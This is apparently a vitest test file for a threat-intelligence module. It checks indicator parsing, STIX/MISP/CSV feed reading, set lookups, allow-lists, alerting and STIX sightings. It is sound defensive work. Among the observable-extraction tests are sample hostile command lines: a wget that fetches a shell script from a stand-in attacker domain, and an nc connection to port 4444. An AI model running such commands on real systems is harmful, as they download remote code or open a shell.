import { silent, systemClock } from "@picket/kit";
import { recordKind } from "@picket/schema";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { openPipeline } from "../pipeline.js";
import { eventOf, MemoryHouse, messageOf } from "../testing.js";
import { compileSet, IndicatorSet, wordsOf } from "./compiled-set.js";
import type { FeedFormat, FeedOptions } from "./feed-reader.js";
import { domainOf, type Indicator, recognise } from "./indicator.js";
import { IntelBook, lookUp } from "./intel-book.js";
import { observablesOf } from "./observables.js";
import { parseFeed } from "./parse-feed.js";
import { placeOf } from "./places.js";
import { sightingsBundle } from "./sightings.js";

const indicator = (given: string, more: Partial<Indicator> = {}): Indicator => {
  const found = recognise(given);
  if (!found) throw new Error(`${given} is no indicator.`);
  return { confidence: 80, expiresAt: 0, threat: "C2", description: "test", ...found, ...more };
};

test.each([
  { given: "203.0.113.9", is: "ipv4 203.0.113.9" },
  { given: " 203.0.113[.]9 ", is: "ipv4 203.0.113.9" },
  { given: "2001:DB8:0:0::5", is: "ipv6 2001:db8::5" },
  { given: "::ffff:203.0.113.9", is: "ipv4 203.0.113.9" },
  { given: "203.0.113.77/24", is: "cidr 203.0.113.0/24" },
  { given: "203.0.113.9/32", is: "ipv4 203.0.113.9" },
  { given: "2001:db8::1/32", is: "cidr 2001:db8::/32" },
  { given: "EVIL.Example.", is: "domain evil.example" },
  { given: "bücher.example", is: "domain xn--bcher-kva.example" },
  { given: "*.evil.example", is: "domain evil.example" },
  { given: "hxxp://Evil.Example:80/a?b#c", is: "url http://evil.example/a?b" },
  { given: "d41d8cd98f00b204e9800998ecf8427E", is: "md5 d41d8cd98f00b204e9800998ecf8427e" },
  { given: "a".repeat(64), is: `sha256 ${"a".repeat(64)}` },
  { given: "localhost", is: undefined },
  { given: "1.2.3", is: undefined },
  { given: "a..b", is: undefined },
  { given: "x".repeat(5_000), is: undefined },
  { given: "", is: undefined },
])("$given is $is", ({ given, is }) => {
  const found = recognise(given);
  expect(found ? `${found.type} ${found.value}` : undefined).toBe(is);
});

describe("a compiled set", () => {
  const set = new IndicatorSet(
    compileSet(
      [
        "203.0.113.9",
        "198.51.100.0/24",
        "198.51.100.128/25",
        "2001:db8:bad::/48",
        "evil.example",
        "http://h.example/x",
        "b".repeat(64),
      ].map((given) => indicator(given, { description: given })),
    ),
  );
  test.each([
    { kind: "address", value: "203.0.113.9", is: "203.0.113.9" },
    { kind: "address", value: "203.0.113.8", is: undefined },
    { kind: "address", value: "198.51.100.1", is: "198.51.100.0/24" },
    { kind: "address", value: "198.51.100.200", is: "198.51.100.128/25" },
    { kind: "address", value: "2001:db8:bad:1::7", is: "2001:db8:bad::/48" },
    { kind: "address", value: "2001:db8:bac::7", is: undefined },
    { kind: "domain", value: "evil.example", is: "evil.example" },
    { kind: "domain", value: "a.b.evil.example", is: "evil.example" },
    { kind: "domain", value: "notevil.example", is: undefined },
    { kind: "url", value: "http://h.example/x", is: "http://h.example/x" },
    { kind: "url", value: "http://h.example/y", is: undefined },
    { kind: "hash", value: "b".repeat(64), is: "b".repeat(64) },
  ] as const)("finds $is for $value", ({ kind, value, is }) => {
    expect(lookUp(set, { kind, value, field: "" })?.entry.description).toBe(is);
  });

  test("finds every indicator that is in it and no other, whatever they are", () => {
    const address = fc.ipV4().map((text) => indicator(text));
    const domain = fc
      .domain()
      .filter((text) => domainOf(text) !== undefined)
      .map((text) => indicator(text));
    fc.assert(
      fc.property(fc.array(fc.oneof(address, domain), { maxLength: 200 }), fc.ipV4(), (indicators, other) => {
        const made = new IndicatorSet(compileSet(indicators));
        for (const { type, value } of indicators) {
          const kind = type === "domain" ? "domain" : "address";
          expect(lookUp(made, { kind, value, field: "" })).toBeDefined();
        }
        const isIn = indicators.some(({ value }) => value === recognise(other)?.value);
        expect(made.address(other, wordsOf(other)!) !== undefined).toBe(isIn);
      }),
      { numRuns: 50 },
    );
  });

  test("bytes that are none are refused", () => {
    expect(() => new IndicatorSet(Buffer.from("no set"))).toThrow(RangeError);
    expect(() => new IndicatorSet(compileSet([indicator("203.0.113.9")]).subarray(0, 60))).toThrow(
      RangeError,
    );
  });
});

const options = (format: FeedFormat, more: Partial<FeedOptions> = {}): FeedOptions => ({
  format,
  confidence: 50,
  expiresAt: 0,
  threat: "",
  ...more,
});
const stix = (pattern: string, more: object = {}): object => ({
  type: "indicator",
  id: "indicator--1",
  pattern,
  pattern_type: "stix",
  valid_from: "2026-01-01T00:00:00Z",
  ...more,
});
const bundle = (...objects: object[]): string => JSON.stringify({ type: "bundle", id: "bundle--1", objects });

test.each([
  {
    name: "a plain list",
    format: "list",
    text: "# c\n203.0.113.9\n\nevil.example ; x\n// y\nnope",
    is: ["203.0.113.9", "evil.example"],
    refused: 1,
  },
  {
    name: "a hosts file",
    format: "list",
    text: "127.0.0.1 localhost\n0.0.0.0 evil.example\n",
    is: ["evil.example"],
    refused: 0,
  },
  {
    name: "CSV with a header",
    format: "csv",
    text: 'first,ioc_value\n"a, ""b""",203.0.113.9\nx,bad value\n',
    is: ["203.0.113.9"],
    refused: 1,
  },
  {
    name: "CSV with a column by number",
    format: "csv",
    column: 1,
    text: "x;evil.example\ny;203.0.113.0/24\n",
    is: ["evil.example", "203.0.113.0/24"],
    refused: 0,
  },
  {
    name: "JSON lines",
    format: "jsonl",
    text: '{"ip":"203.0.113.9","confidence":90}\n{"no":1}\n{broken\n{"value":"evil.example","type":"domain"}',
    is: ["203.0.113.9", "evil.example"],
    refused: 2,
  },
  {
    name: "STIX",
    format: "stix",
    text: bundle(
      stix("[ipv4-addr:value = '203.0.113.9']"),
      stix("[domain-name:value = 'evil.example' OR url:value = 'http://h.example/']"),
      stix("[file:hashes.'SHA-256' = 'A']"),
      { type: "malware" },
    ),
    is: ["203.0.113.9", "evil.example", "http://h.example/"],
    refused: 1,
  },
  {
    name: "a STIX range",
    format: "stix",
    text: bundle(stix("[ipv4-addr:value ISSUBSET '203.0.113.0/24']")),
    is: ["203.0.113.0/24"],
    refused: 0,
  },
  {
    name: "a STIX list",
    format: "stix",
    text: bundle(stix("[ipv4-addr:value IN ('203.0.113.1', '203.0.113.2')]")),
    is: ["203.0.113.1", "203.0.113.2"],
    refused: 0,
  },
  {
    name: "revoked STIX and STIX of several things together",
    format: "stix",
    text: bundle(
      stix("[url:value = 'http://h.example/']", { revoked: true }),
      stix("[ipv4-addr:value = '203.0.113.9' AND domain-name:value = 'a.example']"),
    ),
    is: [],
    refused: 1,
  },
  {
    name: "a MISP event",
    format: "misp",
    text: JSON.stringify({
      Event: {
        info: "campaign",
        Attribute: [
          { type: "ip-dst|port", value: "203.0.113.9|443", to_ids: true, category: "Network activity" },
          { type: "domain", value: "evil.example", to_ids: false },
          { type: "comment", value: "x" },
        ],
        Object: [{ Attribute: [{ type: "sha256", value: "c".repeat(64) }] }],
      },
    }),
    is: ["203.0.113.9", "c".repeat(64)],
    refused: 0,
  },
] as const)("$name is read, and what is none is refused", ({ format, text, is, refused, ...more }) => {
  const reading = parseFeed(text, options(format, more));
  expect(reading.indicators.map(({ value }) => value)).toEqual([...is]);
  expect(reading.refusedCount).toBe(refused);
});

test("what a source says of an indicator is kept", () => {
  const [found] = parseFeed(
    bundle(
      stix("[ipv4-addr:value = '203.0.113.9']", {
        confidence: 91,
        valid_until: "2027-01-01T00:00:00Z",
        name: "Mirai C2",
        indicator_types: ["malicious-activity"],
      }),
    ),
    options("stix"),
  ).indicators;
  expect(found).toMatchObject({
    confidence: 91,
    expiresAt: Date.parse("2027-01-01T00:00:00Z"),
    description: "Mirai C2",
    threat: "malicious-activity",
  });
});

test.each([
  { name: "no JSON", format: "stix", text: "<html>" },
  { name: "no event", format: "misp", text: "{}" },
  { name: "a column that is not there", format: "csv", text: "a,b\n1,2", column: "ioc" },
] as const)("a source with $name is refused whole", ({ format, text, ...more }) => {
  expect(() => parseFeed(text, options(format, more))).toThrow();
});

const seen = (item: object): string[] =>
  observablesOf({
    deviceId: "d",
    moduleId: "",
    name: "ProcessCreate",
    at: 0,
    hits: 1,
    item: { ...item },
  }).map(({ kind, value }) => `${kind} ${value}`);

test.each([
  { item: { RemoteAddress: "::ffff:203.0.113.9" }, is: ["address 203.0.113.9"] },
  {
    item: { QueryName: "a.evil.example", Answers: "203.0.113.9;b.example" },
    is: ["domain a.evil.example", "address 203.0.113.9", "domain b.example"],
  },
  {
    item: { CommandLine: "wget 'http://evil.example:8080/x.sh' -O /tmp/x.sh" },
    is: ["url http://evil.example:8080/x.sh", "domain evil.example"],
  },
  { item: { CommandLine: "nc 203.0.113.9 4444" }, is: ["address 203.0.113.9"] },
  {
    item: { CommandLine: "ping evil.example; cat notes.txt run.sh v1.2.3.4.5" },
    is: ["domain evil.example"],
  },
  { item: { HashAfter: `sha256:${"A".repeat(64)}` }, is: [`hash ${"a".repeat(64)}`] },
  { item: { ExtraDetails: { Sha256: "b".repeat(64) } }, is: [`hash ${"b".repeat(64)}`] },
  { item: { CommandLine: "ls -la /etc" }, is: [] },
])("in $item there is $is", ({ item, is }) => {
  expect(seen(item)).toEqual(is);
});

test("a hostile command line is looked at in bounded time", () => {
  const started = performance.now();
  seen({ CommandLine: "a.".repeat(500_000) });
  seen({ CommandLine: `${"a".repeat(60)}.`.repeat(5_000) });
  expect(performance.now() - started).toBeLessThan(2_000);
});

const book = (sets: Readonly<Record<string, readonly Indicator[]>>): IntelBook =>
  new IntelBook({ read: (hash) => compileSet(sets[hash] ?? []), shown: (hash) => sets[hash] ?? [] }, silent);
const inForce = (name: string, more: object = {}) => ({
  name,
  hash: name,
  trust: 1,
  minConfidence: 0,
  ...more,
});

describe("which indicator counts", () => {
  const address = { kind: "address", value: "203.0.113.9", field: "" } as const;
  test("the most confident by trust", () => {
    const intel = book({
      low: [indicator("203.0.113.9", { confidence: 90 })],
      high: [indicator("203.0.113.9", { confidence: 80 })],
    });
    intel.use([inForce("low", { trust: 0.5 }), inForce("high")]);
    expect(intel.find(address, 0)).toMatchObject({ set: "high", confidence: 80 });
  });
  test("none that expired, none below what is asked for", () => {
    const intel = book({
      old: [indicator("203.0.113.9", { expiresAt: 3_600_000 })],
      weak: [indicator("203.0.113.9", { confidence: 10 })],
    });
    intel.use([inForce("old"), inForce("weak", { minConfidence: 20 })]);
    expect(intel.find(address, 3_600_000)).toBeUndefined();
    expect(intel.find(address, 3_599_999)).toMatchObject({ set: "old" });
  });
  test("none that the allow-list names, by value, parent or range", () => {
    const intel = book({
      set: ["203.0.113.9", "good.example", "http://x.good.example/a"].map((each) => indicator(each)),
    });
    intel.use([inForce("set")]);
    const domain = { kind: "domain", value: "x.good.example", field: "" } as const;
    const url = { kind: "url", value: "http://x.good.example/a", field: "" } as const;
    expect([address, domain, url].map((each) => intel.find(each, 0) !== undefined)).toEqual([
      true,
      true,
      true,
    ]);
    intel.allow(["203.0.113.0/24", "good.example"]);
    expect([address, domain, url].map((each) => intel.find(each, 0) !== undefined)).toEqual([
      false,
      false,
      false,
    ]);
  });
});

test("what is in force is matched in the stream, shown in the table, and outlives a restart", async () => {
  const sets: Record<string, Indicator[]> = {
    one: [indicator("203.0.113.9"), indicator("evil.example")],
    two: [indicator("evil.example")],
  };
  const store = {
    read: (hash: string) => compileSet(sets[hash] ?? []),
    shown: (hash: string) => sets[hash] ?? [],
  };
  const house = new MemoryHouse();
  const at = Date.parse("2026-03-01T10:00:00Z");
  const run = async (): Promise<void> => {
    const pipeline = await openPipeline({
      inlet: house.inlet,
      tables: house.tables,
      recorder: silent,
      clock: systemClock,
      hubName: "Hub",
      indicatorSets: store,
    });
    pipeline.notify();
    await pipeline.reached(house.inlet.last());
    await pipeline.close();
  };
  const set = (hash: string): void =>
    house.append({
      kind: recordKind.setting,
      deviceId: "",
      at,
      body: { area: "indicatorSet", name: "feed", value: { hash, trust: 0.5 }, actor: "ann", reason: "" },
    });
  const connect = (serial: number, RemoteAddress: string): void =>
    house.append({
      kind: recordKind.message,
      at,
      body: messageOf([
        eventOf(
          serial,
          "ConnectionCreate",
          [
            {
              Executable: "/bin/x",
              ProcessId: 1,
              Direction: "Out",
              Protocol: "tcp",
              RemoteAddress,
              RemotePort: "1",
            },
          ],
          at,
        ),
      ]),
    });
  set("one");
  await run();
  connect(1, "203.0.113.9");
  await run();
  const [alert] = house.latest("SecurityAlert", "SystemAlertId");
  expect(alert).toMatchObject({ DeviceId: "pump-7", ConfidenceScore: 0.4 });
  expect(alert?.["Evidence"]).toMatchObject([{ Indicator: { Value: "203.0.113.9", Set: "feed" } }]);
  set("two");
  connect(2, "203.0.113.9");
  await run();
  expect(house.latest("SecurityAlert", "SystemAlertId")).toMatchObject([{ EventCount: 1 }]);
  const rows = house.latest("ThreatIntelligenceIndicator", "IndicatorId");
  expect(rows.map(({ IndicatorId, Active }) => [IndicatorId, Active])).toEqual([
    ["feed|203.0.113.9", false],
    ["feed|evil.example", true],
  ]);
});

test("sightings are told as STIX with ids that stay the same", () => {
  const told = {
    alertId: "a1",
    deviceId: "pump-7",
    value: "203.0.113.9",
    type: "ipv4",
    set: "feed",
    first: "2026-03-01T10:00:00.000Z",
    last: "2026-03-01T11:00:00.000Z",
    count: 3,
  };
  const made = sightingsBundle([told], { name: "Hub", at: "2026-03-02T00:00:00.000Z" });
  expect(made).toEqual(sightingsBundle([told], { name: "Hub", at: "2026-03-02T00:00:00.000Z" }));
  expect(JSON.stringify(made)).toContain("[ipv4-addr:value = '203.0.113.9']");
  expect(made).toMatchObject({
    type: "bundle",
    objects: [{ type: "identity" }, { type: "indicator" }, { type: "sighting", count: 3 }],
  });
});

test("public addresses have a country, others none", () => {
  expect(placeOf("8.8.8.8")).toEqual({ country: "US" });
  expect(placeOf("10.0.0.1")).toBeUndefined();
});
